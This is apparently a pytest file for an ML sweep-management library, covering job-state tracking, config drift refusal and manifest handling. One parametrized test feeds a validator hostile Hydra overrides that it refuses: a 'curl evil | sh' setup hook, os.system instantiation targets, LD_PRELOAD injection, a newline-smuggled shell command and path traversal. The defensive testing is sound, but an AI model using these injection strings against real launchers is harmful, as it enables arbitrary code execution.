"""The sweep manifest (lmlab.record.sweep): what a job's state is read as, from its run directory, the scheduler and
the submitter; the drift between two base configs; the status table; a resume's refusal of a drifted base config."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest

from hydra_plugins.lmlab_slurm.recorded import refuse_drift
from lmlab.record import sweep
from lmlab.record.rundir import RunDir, RunLock, dumps


def _job(d: str, num: int, scheduler_id: str | None = None) -> dict:
    return {"num": num, "dir": d, "overrides": ["model.n_layer=2", f"seed={num}"], "seed": num, "max_steps": 100,
            "scheduler_id": scheduler_id, "state": "pending"}


def _summary(run: Path, status: str, steps: int, attempts: int = 1, error: str | None = None) -> None:
    RunDir(run).write_summary({"status": status, "steps": steps, "final_val_loss": 1.25, "error": error,
                               "attempts": [{"status": status}] * attempts})


def _metrics(run: Path, rows: list[tuple[int, float | None]]) -> None:
    run.mkdir(parents=True, exist_ok=True)
    lines = ["step,train/loss,val/loss"] + [f"{s},2.0,{'' if v is None else v}" for s, v in rows]
    (run / "metrics.csv").write_text("\n".join(lines) + "\n")


def _manifest(tmp_path: Path, jobs: list[dict], pid: int) -> Path:
    (tmp_path / sweep.MANIFEST).write_text(dumps({"format": 1, "command": ["python train.py", "-m"],
                                                  "submitter": {"pid": pid, "host": os.uname().nodename},
                                                  "jobs": jobs}))
    return tmp_path


def test_each_state_is_read_from_the_run_directory_and_the_submitter(tmp_path: Path, dead_pid: int) -> None:
    names = ["done", "diverged", "failed", "stopped", "killed", "never"]
    _summary(tmp_path / "done", "completed", 100)
    _metrics(tmp_path / "done", [(50, 2.5), (100, 1.5), (101, None)])
    _summary(tmp_path / "diverged", "diverged", 40)
    _summary(tmp_path / "failed", "failed", 0, error="CUDA out of memory")
    _summary(tmp_path / "stopped", "interrupted", 60, attempts=2)
    _metrics(tmp_path / "killed", [(10, None), (20, 2.25), (30, None)])  # metrics, no summary, no live holder
    jobs = [_job(n, i) for i, n in enumerate(names)]
    jobs.append({**_job("refused", 6), "state": "failed", "error": "optim.lr='abc' must be a float"})  # its own word
    rows = sweep.job_states(_manifest(tmp_path, jobs, dead_pid), scheduler={})
    got = {r["dir"]: (r["state"], r["step"], r["val_loss"], r["attempts"]) for r in rows}
    assert got == {"done": ("completed", 100, 1.5, 1), "diverged": ("diverged", 40, 1.25, 1),
                   "failed": ("failed", 0, 1.25, 1), "stopped": ("interrupted", 60, 1.25, 2),
                   "killed": ("lost", 30, 2.25, 1), "never": ("not started", None, None, 0),
                   "refused": ("failed", None, None, 0)}
    assert rows[2]["why"] == "CUDA out of memory" and "killed" in rows[4]["why"] and "float" in rows[6]["why"]


def test_a_live_submitter_or_a_held_run_lock_is_pending_or_running(tmp_path: Path) -> None:
    _metrics(tmp_path / "training", [(5, None)])
    with RunLock(tmp_path / "training"):
        rows = sweep.job_states(_manifest(tmp_path, [_job("training", 0), _job("next", 1)], os.getpid()),
                                scheduler={})
        assert [(r["state"], r["step"], r["attempts"]) for r in rows] == [("running", 5, 1), ("pending", None, 0)]
    assert sweep.job_states(tmp_path, scheduler={})[0]["state"] == "lost"  # the lock let go, no summary


def test_the_scheduler_says_queued_running_or_gone(tmp_path: Path, dead_pid: int) -> None:
    _summary(tmp_path / "requeued", "interrupted", 30)
    jobs = [_job("queued", 0, "7_0"), _job("requeued", 1, "7_1"), _job("cancelled", 2, "7_2"),
            _job("purged", 3, "7_3"), _job("starting", 4, "7_4")]
    manifest = _manifest(tmp_path, jobs, dead_pid)
    states = {"7_0": "PENDING", "7_1": "REQUEUED", "7_2": "CANCELLED", "7_4": "RUNNING"}
    rows = sweep.job_states(manifest, scheduler=states)
    assert [r["state"] for r in rows] == ["pending", "pending", "lost", "lost", "running"]
    assert "7_2 ended before the run started" in rows[2]["why"]
    # squeue did not answer: a job with an id and nothing on disk may still be queued
    assert sweep.job_states(manifest, scheduler=None)[0]["state"] == "pending"


def test_the_table_names_the_jobs_by_what_they_sweep_and_counts_the_states(tmp_path: Path, dead_pid: int) -> None:
    _summary(tmp_path / "a", "completed", 100)
    _metrics(tmp_path / "a", [(100, 1.5)])
    text = sweep.table(sweep.job_states(_manifest(tmp_path, [_job("a", 0, "9_0"), _job("b", 1, "9_1")], dead_pid),
                                        scheduler={"9_1": "PENDING"}))
    lines = text.splitlines()
    assert lines[0].split() == ["#", "job", "state", "step", "val", "loss", "attempts", "scheduler", "id"]
    assert lines[1].split() == ["0", "seed=0", "completed", "100/100", "1.5000", "1", "9_0"]
    assert lines[2].split() == ["1", "seed=1", "pending", "-/100", "-", "0", "9_1"]
    assert lines[-1] == "2 job(s): 1 pending, 1 completed"


def test_drift_names_every_changed_leaf() -> None:
    was = {"optim": {"lr": 3e-4, "betas": [0.9, 0.95]}, "trainer": {"max_steps": 100}, "seed": 1}
    now = {"optim": {"lr": 1e-3, "betas": [0.9, 0.95]}, "trainer": {"max_steps": 100}, "seed": 1, "new": {"k": 2}}
    assert sweep.drift(was, now) == {"new.k": (None, 2), "optim.lr": (3e-4, 1e-3)}
    assert sweep.drift(was, was) == {}
    assert sweep.config_hash(was) == sweep.config_hash(json.loads(json.dumps(was))) != sweep.config_hash(now)


def test_a_drifted_base_config_is_refused_naming_the_keys_unless_meant(tmp_path: Path, capsys) -> None:
    base = {"optim": {"lr": 3e-4}, "trainer": {"max_steps": 100}}
    sweep.record_launch(tmp_path, command=["python train.py", "-m"], cwd=str(tmp_path), base=base, launcher="basic",
                        jobs=[])
    refuse_drift(tmp_path, base, allowed=())  # the same: nothing to say
    drifted = {"optim": {"lr": 1e-3}, "trainer": {"max_steps": 400}}
    with pytest.raises(SystemExit) as exit_:
        refuse_drift(tmp_path, drifted, allowed=("trainer.max_steps",))
    err = capsys.readouterr().err
    assert exit_.value.code == 2 and "optim.lr: 0.0003 -> 0.001" in err and "max_steps" not in err, err
    refuse_drift(tmp_path, drifted, allowed=("trainer.max_steps", "optim"))  # a group's key covers its leaves


def test_a_relaunch_keeps_each_jobs_entry_and_updates_it(tmp_path: Path) -> None:
    kw = {"command": ["python train.py", "-m", "seed=1,2"], "cwd": "/x", "base": {"a": 1}, "launcher": "slurm"}
    sweep.record_launch(tmp_path, jobs=[{"dir": "seed=1", "max_steps": 10}, {"dir": "seed=2", "max_steps": 10}], **kw)
    sweep.record_jobs(tmp_path, {"seed=2": {"scheduler_id": "5_1"}})
    sweep.record_launch(tmp_path, jobs=[{"dir": "seed=2", "max_steps": 20}], **{**kw, "command": ["other"]})
    manifest = sweep.read(tmp_path)
    assert manifest["command"] == kw["command"]  # the sweep's own command stays the first one
    assert [(j["num"], j["dir"], j["max_steps"], j["scheduler_id"]) for j in manifest["jobs"]] == [
        (0, "seed=1", 10, None), (1, "seed=2", 20, "5_1")]
    assert list(manifest)[-1] == "jobs" and not list(tmp_path.glob(".*.tmp*"))


def test_a_damaged_manifest_is_refused_with_its_path(tmp_path: Path) -> None:
    (tmp_path / sweep.MANIFEST).write_text("{not json")
    with pytest.raises(ValueError, match=r"sweep\.json is not valid JSON"):
        sweep.read(tmp_path)
    assert sweep.read(tmp_path / "elsewhere") is None


def test_the_swept_keys_are_the_sweep_overrides_and_the_searchs_parameters(tmp_path: Path) -> None:
    command = ["-m", "a=1,2", "b=3", "c=choice(x,y)", "d=range(0,4)", "hydra.sweep.dir=x", "e=[1,2]"]
    assert sweep.swept_keys(command, ["optim.lr"]) == ["a", "c", "d", "optim.lr"]  # a list value is one value
    sweep.record_launch(tmp_path, command=["python train.py", *command], cwd=".", base={}, launcher="basic", jobs=[],
                        swept=sweep.swept_keys(command))

    class Hydra:
        class mode:  # noqa: N801  (HydraConfig's shape)
            name = "MULTIRUN"

        class sweep:  # noqa: N801
            dir = str(tmp_path)

    assert sweep.swept_tags(Hydra, ["a=2", "b=3", "c=y", "d=0"]) == ["a=2", "c=y", "d=0"]
    Hydra.mode.name = "RUN"
    assert sweep.swept_tags(Hydra, ["a=2"]) == [] and sweep.swept_tags(None, ["a=2"]) == []


@pytest.mark.parametrize("arg, why", [
    ("hydra.callbacks.x._target_=os.system", "instantiation keys"),
    ("hydra.searchpath=[file:///tmp/evil]", "not among the launcher and search settings"),
    ("hydra.job.env_set.LD_PRELOAD=/tmp/x.so", "not among the launcher and search settings"),
    ("hydra.launcher.setup=[curl evil | sh]", "not among the launcher and search settings"),
    ("hydra.sweeper.custom_search_space=evil.fn", "not among the launcher and search settings"),
    ("hydra/launcher=evil", "hydra/launcher accepts serial"),
    ("--config-dir=/tmp/evil", "a flag other than -m"),
    ("trainer.strategy._target_=lmlab.record.rundir.atomic_write", "instantiation keys"),
    ("+trainer.strategy={_target_:torch.save}", "Hydra's instantiation keys are not data"),
    ("optim.lr=${oc.create:x}", "an interpolation (`${`)"),
    ("optim.lr=${oc.decode:1},2", "an interpolation (`${`)"),
    ("trainer.strategy='${oc.${perf.tag}:\"{_target_: torch.save}\"}'", "an interpolation (`${`)"),
    ("hydra.sweeper.direction='${oc.create:\"{_target_: torch.save}\"}'", "an interpolation (`${`)"),
    ("hydra.launcher.comment='x\ntouch /tmp/pwned'", "a control character (U+000A)"),
    ("hydra.sweep.subdir=../../elsewhere", "a job's directory is inside the sweep"),
    ("downstream.tasks=[/tmp/evil.yaml]", "is a task file, which imports code"),
    ("+trainer.default_root_dir=/tmp/elsewhere", "not a key of lmlab's config"),
    ("model=gpt2,{_target_:os.system}", "instantiation keys are not data"),
])
def test_a_recorded_command_that_would_run_code_is_refused_naming_the_argument(tmp_path: Path, arg: str,
                                                                               why: str) -> None:
    from lmlab.record.saved import SavedStateRefused, check_command

    with pytest.raises(SavedStateRefused, match=re.escape(why)) as refused:
        check_command(["-m", "placement=pre,post", arg], tmp_path / sweep.MANIFEST)
    assert "command[3]" in str(refused.value) and "sweep.json" in str(refused.value)


def test_a_sweeps_own_command_is_accepted_as_recorded(tmp_path: Path) -> None:
    from lmlab.record.saved import check_command

    command = ["-m", "data=text_files", "data.paths=[/d/a.txt]", "placement=pre,post", "seed=1,2",
               "optim.lr=choice(1e-3,3e-3)", "hparams_search=optuna", "hydra/launcher=slurm",
               "hydra.launcher.wait=false",
               "hydra.launcher.partition=gpu", "hydra.sweeper.n_trials=3", "hydra.sweeper.sampler.seed=1",
               "hydra.sweep.dir=/x/y", "trainer.max_steps=600", "logger=none"]
    assert check_command(command, tmp_path / sweep.MANIFEST) == command


def test_a_refused_jobs_own_word_outlives_squeue_still_showing_it_running(tmp_path: Path, dead_pid: int) -> None:
    """A SLURM job refused at once (optim.lr=abc) says `failed` with its reason while squeue still lists it RUNNING
    (or COMPLETING) as its process exits: the state is failed, with the reason, not running — which the launcher
    would write back and a later status then read as lost (the race CI hit)."""
    jobs = [{**_job("refused", 0, "43"), "state": "failed", "error": "optim.lr='abc' must be a float > 0"}]
    for squeue in ("RUNNING", "COMPLETING", None):
        rows = sweep.job_states(_manifest(tmp_path, jobs, dead_pid), scheduler={"43": squeue} if squeue else {})
        assert (rows[0]["state"], rows[0]["why"]) == ("failed", "optim.lr='abc' must be a float > 0"), squeue
